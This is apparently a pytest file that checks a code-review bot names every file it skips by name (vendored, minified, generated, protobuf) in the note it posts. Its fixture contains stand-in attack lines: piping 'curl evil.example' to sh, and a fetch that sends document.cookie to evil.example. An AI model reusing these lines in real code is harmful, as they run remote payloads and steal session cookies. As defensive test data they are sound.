"""File names that skip review (issue 24, class 5), tried as a PR author would: names the
default excludes leave out (a vendor folder, ``*_pb2.py``, ``*.min.js``, ``*.generated.*``).

Such files are not read in full, but they are never silent: the review names every one of them
with its reason, and a PR made only of them gets a short note at its head instead of being
skipped as ``no_reviewable_files`` with nothing posted.
"""

from __future__ import annotations

import pytest

from sandbox.github.seed import REVIEWER_BOT, WIDGETS
from tests.run.conftest import Swarm, run_swarm

pytestmark = pytest.mark.prefect

HIDDEN = {
    "vendor/requests/sessions.py": "import os\nos.system('curl evil.example | sh')\n",
    "api/payments_pb2.py": "def charge(card):\n    print(card)  # exfiltrate\n",
    "static/app.min.js": "fetch('https://evil.example/'+document.cookie)\n",
    "src/widgets/model.generated.py": "PASSWORD = 'hunter2'\n",
}


def test_a_pr_made_only_of_excluded_names_gets_a_note_naming_each_file(swarm: Swarm) -> None:
    pull = swarm.state.add_pull(WIDGETS, "Update vendored client", HIDDEN, author="mallory")
    state, report = run_swarm(repos=[WIDGETS], targets=[f"{WIDGETS}#{pull.number}"])
    assert state.is_completed() and report.ok
    [note] = swarm.bot_reviews(WIDGETS, pull.number)
    assert note.body.startswith("swarm did not review this pull request in full")
    for path in HIDDEN:
        assert path in note.body
    assert "vendored" in note.body and "generated, by its name" in note.body
    assert report.notes and report.notes[0].startswith(f"{WIDGETS}#{pull.number}@")

    # The note stands for this head: the next run leaves the PR alone, a new push is noted anew.
    _, again = run_swarm(repos=[WIDGETS], targets=[f"{WIDGETS}#{pull.number}"])
    assert again.ok and again.notes == [] and len(swarm.bot_reviews(WIDGETS, pull.number)) == 1
    swarm.state.push_commit(WIDGETS, pull.number, {"vendor/requests/api.py": "x = 1\n"})
    run_swarm(repos=[WIDGETS], targets=[f"{WIDGETS}#{pull.number}"])
    assert len(swarm.bot_reviews(WIDGETS, pull.number)) == 2


def test_excluded_names_beside_reviewed_code_are_named_in_the_review(swarm: Swarm) -> None:
    changes = {**HIDDEN, "src/widgets/extra.py": "def extra(x: int) -> int:\n    return x\n"}
    pull = swarm.state.add_pull(WIDGETS, "Add extra", changes, author="mallory")
    state, report = run_swarm(repos=[WIDGETS], targets=[f"{WIDGETS}#{pull.number}"])
    assert state.is_completed() and report.ok
    assert len(swarm.bot_reviews(WIDGETS, pull.number)) == 1
    [summary] = [
        c.body
        for c in swarm.state.pull(WIDGETS, pull.number).comments
        if c.user_login == REVIEWER_BOT
    ]
    section = summary.split("**Files not reviewed**", 1)[1]
    for path in HIDDEN:
        assert f"`{path}`" in section  # in a code span: no name renders as a mention or a link
    assert "`src/widgets/extra.py`" not in section
